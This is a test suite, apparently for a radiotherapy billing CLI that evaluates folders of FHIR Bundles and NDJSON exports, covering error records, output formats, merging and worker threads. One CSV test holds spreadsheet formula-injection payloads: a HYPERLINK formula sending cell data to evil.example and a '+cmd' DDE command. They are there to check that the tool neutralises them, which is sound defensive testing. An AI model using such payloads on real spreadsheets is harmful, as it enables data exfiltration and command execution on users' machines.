import { appendFileSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { todayAtClinic } from '../../src/dates.js';
import { determineBundle } from '../../src/pipeline.js';
import { SCENARIOS_DIR, scenarioFile } from '../helpers/cases.js';
import { cli, copyInto, goldenFiles, removeTempDirs, ndjsonLines, patientOf, readJson, tempDir, writeNdjsonExport } from '../helpers/department.js';

/**
 * `rt-billing evaluate` on a department (issue 16): a folder of Bundles, a folder of Bulk Data NDJSON; per-patient
 * results equal to the single-Bundle result; error records that name file and line and lose no other patient;
 * the exit codes 0, 3, 2; the formats; the merge of shards.
 */
afterAll(removeTempDirs);

const FILES = goldenFiles(SCENARIOS_DIR);
const single = (file: string) =>
  JSON.parse(JSON.stringify(determineBundle(readJson(file), { asOf: todayAtClinic(null) }))) as Record<string, unknown>;
const withoutPatient = ({ patient: _patient, ...rest }: Record<string, unknown>) => rest;
const hasCharges = (bundle: { entry?: { resource: { resourceType: string; use?: string } }[] }) =>
  (bundle.entry ?? []).some(
    ({ resource }) => resource.resourceType === 'ChargeItem' || (resource.resourceType === 'Claim' && resource.use === 'claim'),
  );

describe('a folder of Bulk Data NDJSON written from each scenario', () => {
  it.each(FILES.map((f) => [f.split('/').pop()!, f]))('%s: the patient line equals the single-Bundle determination', async (_name, file) => {
    const dir = writeNdjsonExport(readJson(file), join(tempDir(), 'export'));
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code, result.stderr).toBe(0);
    const lines = ndjsonLines(result.stdout);
    const patient = lines.find((l) => l.patient === patientOf(readJson(file)))!;
    expect(withoutPatient(patient)).toEqual(single(file));
    expect(lines.at(-1)).toHaveProperty('summary');
  });
});

describe('a gzip-compressed export (.ndjson.gz)', () => {
  it('reads it as the plain one', async () => {
    const file = scenarioFile('a2');
    const plain = writeNdjsonExport(readJson(file), join(tempDir(), 'plain'));
    const zipped = tempDir();
    for (const name of readdirSync(plain)) writeFileSync(join(zipped, `${name}.gz`), gzipSync(readFileSync(join(plain, name))));
    const result = await cli(['evaluate', zipped, '--format', 'ndjson']);
    expect(result.code).toBe(0);
    expect(withoutPatient(ndjsonLines(result.stdout)[0]!)).toEqual(single(file));
  });
});

describe('a folder of Bundles (every scenario, one patient each)', () => {
  it('one line per patient, each equal to its single-Bundle result, and the summary last', async () => {
    const dir = copyInto(tempDir(), FILES);
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(0);
    const lines = ndjsonLines(result.stdout);
    expect(lines).toHaveLength(FILES.length + 1);
    for (const file of FILES) {
      const line = withoutPatient(lines.find((l) => l.patient === patientOf(readJson(file)))!);
      // The folder carries charges (the scenarios on charges): a patient with sessions and none of them is said so
      // (B-NONE, spec v3), which its Bundle alone, holding no charges at all, does not say.
      const findings = line.findings as { rule: string }[];
      const expectNone = !hasCharges(readJson(file)) && (line.sessions as unknown[]).length > 0;
      expect(
        findings.some((f) => f.rule === 'B-NONE'),
        file,
      ).toBe(expectNone);
      expect({ ...line, findings: findings.filter((f) => f.rule !== 'B-NONE') }).toEqual(single(file));
    }
    const { summary } = lines.at(-1) as { summary: { patients: number; sessions: number; errors: number } };
    const sessions = FILES.reduce((n, f) => n + (single(f).sessions as unknown[]).length, 0);
    expect(summary).toMatchObject({ patients: FILES.length, sessions, errors: 0 });
    expect(result.stderr).toMatch(/rt-billing: \d+ patients, \d+ sessions, .*every line read/);
  });

  it('a patient in two Bundles with identical copies (overlapping snapshots): one patient, each resource once, exit 0', async () => {
    const file = scenarioFile('cp');
    const dir = tempDir();
    writeFileSync(join(dir, 'monday.json'), readFileSync(file));
    writeFileSync(join(dir, 'tuesday.json'), readFileSync(file));
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(0);
    const lines = ndjsonLines(result.stdout);
    expect(lines).toHaveLength(2);
    expect(withoutPatient(lines[0]!)).toEqual(single(file));
  });

  it('the same copies written with their keys in another order, or another meta, are one resource: exit 0', async () => {
    const file = scenarioFile('cp');
    const reordered = readJson(file) as { entry: { resource: Record<string, unknown> }[] };
    for (const entry of reordered.entry)
      entry.resource = {
        ...Object.fromEntries(Object.entries(entry.resource).reverse()),
        meta: { versionId: '2', lastUpdated: '2026-04-01T00:00:00Z' },
      };
    const dir = tempDir();
    writeFileSync(join(dir, 'monday.json'), readFileSync(file));
    writeFileSync(join(dir, 'tuesday.json'), JSON.stringify(reordered));
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(0);
    expect(ndjsonLines(result.stdout).filter((l) => 'error' in l)).toEqual([]);
  });

  it('a patient whose resources differ between two Bundles: never one kept silently, an error record naming both files, exit 3', async () => {
    const file = scenarioFile('a3');
    const later = readJson(file) as { entry: { resource: { resourceType: string; performedPeriod?: { start: string } } }[] };
    for (const { resource } of later.entry)
      if (resource.resourceType === 'Procedure' && resource.performedPeriod) resource.performedPeriod.start = '2026-03-02T09:01:00Z';
    const dir = tempDir();
    writeFileSync(join(dir, 'a-2026-03.json'), readFileSync(file));
    writeFileSync(join(dir, 'b-2026-04.json'), JSON.stringify(later));
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(3);
    const lines = ndjsonLines(result.stdout);
    const errors = lines.filter((l) => 'error' in l) as { error: { patient?: string; message: string } }[];
    expect(errors).toHaveLength(1);
    expect(errors[0]!.error.patient).toBe(patientOf(readJson(file)));
    expect(errors[0]!.error.message).toMatch(/a-2026-03\.json and b-2026-04\.json with different content/);
    expect(errors[0]!.error.message).toContain('Procedure/');
    expect(lines.filter((l) => 'patient' in l && !('error' in l))).toEqual([]);
  });

  it('a shared resource (a Practitioner) in two versions in an export: said once for the run, the patients still evaluated', async () => {
    const dir = join(tempDir(), 'export');
    for (const tag of ['a1', 'a3']) writeNdjsonExport(readJson(scenarioFile(tag)), dir);
    const practitioners = readFileSync(join(dir, 'Practitioner.ndjson'), 'utf8').trim().split('\n');
    const renamed = practitioners.map((line) => JSON.stringify({ ...(JSON.parse(line) as object), name: [{ family: 'Renamed' }] }));
    writeFileSync(join(dir, 'Practitioner.ndjson'), `${[...practitioners, ...renamed].join('\n')}\n`);
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    const lines = ndjsonLines(result.stdout);
    const errors = lines.filter((l) => 'error' in l) as { error: { patient?: string; message: string } }[];
    expect(result.code).toBe(3);
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.every((e) => e.error.patient === undefined && /^Practitioner\//.test(e.error.message))).toBe(true);
    expect(new Set(errors.map((e) => e.error.message)).size).toBe(errors.length);
    expect(lines.filter((l) => 'patient' in l && !('error' in l))).toHaveLength(2);
  });

  it('--format json: {patients, errors, summary}, one determination per patient', async () => {
    const dir = copyInto(tempDir(), FILES.slice(0, 3));
    const result = await cli(['evaluate', dir, '--format', 'json']);
    const parsed = JSON.parse(result.stdout) as { patients: { patient: string }[]; errors: unknown[]; summary: { patients: number } };
    expect(parsed.patients.map((p) => p.patient)).toHaveLength(3);
    expect(parsed.errors).toEqual([]);
    expect(parsed.summary.patients).toBe(3);
  });

  it('--format csv: a header, one line per billable line or finding, formulas neutralised', async () => {
    const dir = copyInto(tempDir(), [scenarioFile('cp')]);
    const result = await cli(['evaluate', dir, '--format', 'csv']);
    const rows = result.stdout.trim().split('\n');
    expect(rows[0]).toBe('patient,kind,session,date,fractions,code,units,status,rule,severity,amount_at_risk,message,evidence');
    expect(rows.filter((r) => r.includes(',line,') && r.includes(',77407,'))).toHaveLength(2);
    expect(rows.find((r) => r.includes(',B-MISSED,'))).toContain(',warning,36.74,');
  });

  it('--format csv: FHIR values that look like formulas (unresolved encounter references) are written as text', async () => {
    const bundle = readJson(scenarioFile('a2')) as unknown as {
      entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
    };
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0"];
    bundle.entry
      .filter(({ resource }) => resource.resourceType === 'Procedure' && resource.encounter)
      .forEach(({ resource }, i) => (resource.encounter!.reference = hostile[i % 2]!));
    const dir = tempDir();
    writeFileSync(join(dir, 'hostile.json'), JSON.stringify(bundle));
    const result = await cli(['evaluate', dir, '--format', 'csv']);
    expect(result.stdout).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",`);
    expect(result.stdout).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(result.stdout).not.toMatch(/(^|,)"?[=+]/m);
  });

  it('--out FILE writes the output there', async () => {
    const dir = copyInto(tempDir(), FILES.slice(0, 2));
    const out = join(tempDir(), 'out.ndjson');
    const result = await cli(['evaluate', dir, '--format', 'ndjson', '--out', out]);
    expect(result.stdout).toBe('');
    expect(ndjsonLines(readFileSync(out, 'utf8'))).toHaveLength(3);
  });
});

describe('errors name the file and line, and lose no other patient', () => {
  const twoPatients = () => {
    const dir = join(tempDir(), 'export');
    // Both patients in the same type files, as one export holds them (each scenario's ids are its own).
    writeNdjsonExport(readJson(scenarioFile('a1')), dir);
    writeNdjsonExport(readJson(scenarioFile('cp')), dir);
    return dir;
  };

  it('a malformed line: an error record with file and line (and its patient, not evaluated); the others evaluated; exit 3', async () => {
    const dir = twoPatients();
    appendFileSync(join(dir, 'Procedure.ndjson'), '{"resourceType": "Procedure", "subject": {"reference": "Patient/cp-pt-41708"}, oops\n');
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(3);
    const lines = ndjsonLines(result.stdout);
    const lineCount = readFileSync(join(dir, 'Procedure.ndjson'), 'utf8').trim().split('\n').length;
    expect(lines[0]).toEqual({
      error: expect.objectContaining({ file: join(dir, 'Procedure.ndjson'), line: lineCount, patient: 'Patient/cp-pt-41708' }),
    });
    expect(lines.find((l) => l.patient === 'Patient/a1-pt-40117')).toBeDefined();
    expect(lines.at(-1)).toMatchObject({ summary: { patients: 1, errors: 2 } });
    expect(result.stderr).toContain('2 error records');
  });

  it('a resource that is not valid FHIR: an error record naming the patient, file, line and field; the others evaluated', async () => {
    const dir = twoPatients();
    const procedures = readFileSync(join(dir, 'Procedure.ndjson'), 'utf8').trim().split('\n');
    const bad = procedures.findIndex((l) => l.includes('cp-pt-41708'));
    procedures[bad] = procedures[bad]!.replace('"status":"completed"', '"status":"finished-ish"');
    writeFileSync(join(dir, 'Procedure.ndjson'), `${procedures.join('\n')}\n`);
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(3);
    const error = ndjsonLines(result.stdout).find((l) => 'error' in l) as {
      error: { patient: string; issues: { path: string; file: string; line: number }[] };
    };
    expect(error.error.patient).toBe('Patient/cp-pt-41708');
    expect(error.error.issues[0]).toMatchObject({
      path: expect.stringMatching(/^Procedure\/cp-fx-\d\.status$/),
      file: join(dir, 'Procedure.ndjson'),
      line: bad + 1,
    });
    expect(ndjsonLines(result.stdout).some((l) => l.patient === 'Patient/a1-pt-40117')).toBe(true);
  });

  it('a file listed in the export that cannot be read: an error record, the rest evaluated, exit 3', async () => {
    const dir = twoPatients();
    symlinkSync(join(dir, 'does-not-exist.ndjson'), join(dir, 'Observation.ndjson'));
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(3);
    expect(ndjsonLines(result.stdout)[0]).toEqual({ error: { file: join(dir, 'Observation.ndjson'), message: 'cannot read: ENOENT' } });
    expect(ndjsonLines(result.stdout).filter((l) => 'patient' in l)).toHaveLength(2);
  });

  it.each([
    ['a path that does not exist', () => join(tempDir(), 'missing'), 'cannot read'],
    ['an empty folder', () => tempDir(), 'holds no FHIR Bundle'],
    [
      'a folder whose only file is not JSON',
      () => {
        const dir = tempDir();
        writeFileSync(join(dir, 'Patient.ndjson'), 'not json\n');
        return dir;
      },
      'not valid JSON',
    ],
  ])('%s: the input cannot be read at all: exit 2 and a message', async (_label, make, message) => {
    const result = await cli(['evaluate', make(), '--format', 'ndjson']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(message);
  });
});

describe('progress on stderr', () => {
  it('plain lines when stderr is not a terminal', async () => {
    const result = await cli(['evaluate', copyInto(tempDir(), FILES.slice(0, 2)), '--format', 'ndjson']);
    expect(result.stderr).toMatch(/^rt-billing: 2\/2 patients, \d+ sessions, [\d.]+ patients\/s, done$/m);
    expect(result.stderr).not.toContain('\r');
  });

  it('a bar redrawn in place on a terminal', async () => {
    const result = await cli(['evaluate', copyInto(tempDir(), FILES.slice(0, 2)), '--format', 'ndjson'], { isTTY: true, columns: 120 });
    expect(result.stderr).toContain('\r\u001b[2K[');
    expect(result.stderr).toMatch(/\[#+\.*\] 2\/2 patients/);
  });
});

describe('rt-billing merge: shards of one department', () => {
  it('the merged output has every line of the shards and one summary equal to the whole run', async () => {
    // Both shards carry charges, as the whole does: B-NONE is said alike (a shard without charges would say nothing).
    const [a, b] = [0, 1].map((half) =>
      copyInto(
        tempDir(),
        FILES.filter((_, i) => i % 2 === half),
      ),
    ) as [string, string];
    expect([a, b].map((dir) => readdirSync(dir).some((f) => hasCharges(readJson(join(dir, f)))))).toEqual([true, true]);
    const whole = await cli(['evaluate', copyInto(tempDir(), FILES), '--format', 'ndjson']);
    const shards = await Promise.all(
      [a, b].map(async (dir) => {
        const out = join(tempDir(), 'shard.ndjson');
        await cli(['evaluate', dir, '--format', 'ndjson', '--out', out]);
        return out;
      }),
    );
    const merged = await cli(['merge', ...shards]);
    expect(merged.code).toBe(0);
    const lines = ndjsonLines(merged.stdout);
    expect(lines.filter((l) => 'patient' in l)).toHaveLength(FILES.length);
    expect(lines.at(-1)).toEqual(ndjsonLines(whole.stdout).at(-1));
  });

  it('a shard without its summary line (a run that did not finish): exit 3 and a message', async () => {
    const out = join(tempDir(), 'cut.ndjson');
    mkdirSync(join(out, '..'), { recursive: true });
    writeFileSync(
      out,
      '{"patient":"Patient/x","sessions":[],"orders":[],"findings":[],"utilization":{"sessions":0,"level3":0,"share":null,"expectedShare":0.35}}\n',
    );
    const merged = await cli(['merge', out]);
    expect(merged.code).toBe(3);
    expect(merged.stderr).toContain('did its run finish');
  });
});

describe('NDJSON keeps one record a line for every reader (U+2028, U+2029, NEL in FHIR values)', () => {
  /** Where Python's str.splitlines (and readers like it) end a line besides \n (its others, \v \f \x1c-\x1e, JSON escapes). */
  const UNICODE_LINE_BREAKS = /\r\n|[\n\r\x85\u2028\u2029]/;
  const SEPARATORS = 'Encounter/one\u2028two\u2029three\u0085four';
  /** a2 with its fractions naming an encounter by a reference that holds the three separators (kept as written). */
  const hostileDepartment = () => {
    const bundle = readJson(scenarioFile('a2')) as unknown as {
      entry: { resource: { resourceType: string; encounter?: { reference: string } } }[];
    };
    for (const { resource } of bundle.entry)
      if (resource.resourceType === 'Procedure' && resource.encounter) resource.encounter.reference = SEPARATORS;
    const dir = tempDir();
    writeFileSync(join(dir, 'separators.json'), JSON.stringify(bundle));
    return dir;
  };
  const checkLines = (text: string) => {
    expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
    expect(text).toContain('one\\u2028two\\u2029three\\u0085four');
    const lines = text.trimEnd().split(UNICODE_LINE_BREAKS);
    expect(lines).toHaveLength(2); // the patient and the summary, whoever splits them
    const patient = JSON.parse(lines[0]!) as { sessions: { encounter: string }[] };
    expect(patient.sessions[0]!.encounter).toBe(SEPARATORS); // the same value once parsed
  };

  it('rt-billing evaluate --format ndjson, to stdout and to --out FILE, escapes them', async () => {
    const dir = hostileDepartment();
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(0);
    checkLines(result.stdout);
    const out = join(tempDir(), 'out.ndjson');
    expect((await cli(['evaluate', dir, '--format', 'ndjson', '--out', out])).code).toBe(0);
    checkLines(readFileSync(out, 'utf8'));
  });

  it('rt-billing merge escapes them in a shard written raw (by an earlier version)', async () => {
    const dir = hostileDepartment();
    const escaped = (await cli(['evaluate', dir, '--format', 'ndjson'])).stdout;
    const raw = escaped.replace(/\\u(2028|2029|0085)/g, (_m, hex: string) => String.fromCharCode(parseInt(hex, 16)));
    expect(raw).toMatch(/\u2028/);
    const shard = join(tempDir(), 'shard.ndjson');
    writeFileSync(shard, raw);
    const merged = await cli(['merge', shard]);
    expect(merged.code).toBe(0);
    checkLines(merged.stdout);
  });
});

describe('a single Bundle file', () => {
  it('--format json prints its determination, the JSON the direct API answers (no summary around it)', async () => {
    const file = scenarioFile('cp');
    const result = await cli(['evaluate', file]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual(single(file));
  });
});

describe('--as-of', () => {
  it('a date in another form: exit 2 naming the option', async () => {
    const result = await cli(['evaluate', copyInto(tempDir(), FILES.slice(0, 1)), '--as-of', '03/02/2026']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--as-of 03/02/2026');
  });

  it('a date as YYYY-MM-DD is accepted for a department run and a single Bundle', async () => {
    expect((await cli(['evaluate', copyInto(tempDir(), FILES.slice(0, 1)), '--format', 'ndjson', '--as-of', '2026-03-02'])).code).toBe(0);
    expect((await cli(['evaluate', FILES[0]!, '--as-of', '2026-03-02'])).code).toBe(0);
  });
});

describe('error records quote nothing from the input', () => {
  it('a broken line is named by file, line and character, never by its text', async () => {
    const dir = tempDir();
    writeFileSync(
      join(dir, 'Patient.ndjson'),
      '{"resourceType":"Patient","id":"p1"}\n{"resourceType":"Patient","id":"p2","name":[{"family":"Doe-Secret"}] oops\n',
    );
    const result = await cli(['evaluate', dir, '--format', 'ndjson']);
    expect(result.code).toBe(3);
    expect(result.stdout).not.toContain('Doe-Secret');
    expect(ndjsonLines(result.stdout)[0]).toMatchObject({
      error: { line: 2, patient: 'Patient/p2', message: expect.stringMatching(/^not valid JSON \(at character \d+\)$/) },
    });
  });
});

describe('evaluation workers (--workers N): the same output as one thread', () => {
  /** Every scenario in one export, one patient's line broken and a shared resource in two versions. */
  const department = () => {
    const dir = join(tempDir(), 'export');
    for (const file of FILES) writeNdjsonExport(readJson(file), dir);
    appendFileSync(join(dir, 'Procedure.ndjson'), '{"resourceType": "Procedure", "subject": {"reference": "Patient/cp-pt-41708"}, oops\n');
    const practitioners = readFileSync(join(dir, 'Practitioner.ndjson'), 'utf8').trim().split('\n');
    appendFileSync(join(dir, 'Practitioner.ndjson'), `${practitioners[0]!.replace(/"family":"[^"]*"/, '"family":"Renamed"')}\n`);
    return dir;
  };

  it.each(['ndjson', 'json', 'csv'])('--format %s: byte for byte the output of --workers 0, with 1 or 3 workers', async (format) => {
    const dir = department();
    const oneThread = await cli(['evaluate', dir, '--format', format, '--workers', '0']);
    expect(oneThread.code, oneThread.stderr).toBe(3);
    expect(oneThread.stdout).toContain('with different content');
    expect(oneThread.stdout).toContain('Patient/cp-pt-41708 was not evaluated');
    for (const workers of ['1', '3']) {
      const threaded = await cli(['evaluate', dir, '--format', format, '--workers', workers]);
      expect(threaded.code).toBe(3);
      expect(threaded.stdout).toBe(oneThread.stdout);
    }
  });

  it('the report of a department is the same with workers as without', async () => {
    const dir = department();
    const html = (workers: string) => join(dir, `..`, `report-${workers}.html`);
    for (const workers of ['0', '2']) expect((await cli(['report', dir, '--html', html(workers), '--workers', workers])).code).toBe(3);
    // The time it was made, and the chart library's per-process counters in its SVG class names, aside.
    const report = (file: string) =>
      readFileSync(file, 'utf8')
        .replace(/\d{4}-\d\d-\d\d \d\d:\d\d UTC/g, '')
        .replace(/zr\d+-cls-\d+/g, 'zr-cls');
    expect(report(html('2'))).toBe(report(html('0')));
  });

  it('the summary too: its counts keyed in one order, whichever thread met a status first', async () => {
    // Patients whose first sessions are, in order, "none", "billable" and "not-supportable": two workers meet them in
    // another order than one thread does.
    const dir = copyInto(
      tempDir(),
      ['a1', 'a2', 'am'].map((name) => scenarioFile(name)),
    );
    const oneThread = await cli(['evaluate', dir, '--format', 'ndjson', '--workers', '0']);
    expect(oneThread.code).toBe(0);
    expect(ndjsonLines(oneThread.stdout).at(-1)).toMatchObject({ summary: { igrtStatus: { billable: 3, none: 1, 'not-supportable': 1 } } });
    for (let round = 0; round < 3; round++)
      expect((await cli(['evaluate', dir, '--format', 'ndjson', '--workers', '2'])).stdout).toBe(oneThread.stdout);
  });

  it.each(['-1', 'two', '1.5', '33'])('--workers %s: exit 2 naming the option', async (value) => {
    const result = await cli(['evaluate', copyInto(tempDir(), FILES.slice(0, 1)), '--workers', value]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--workers must be a whole number from 0 to 32');
  });
});
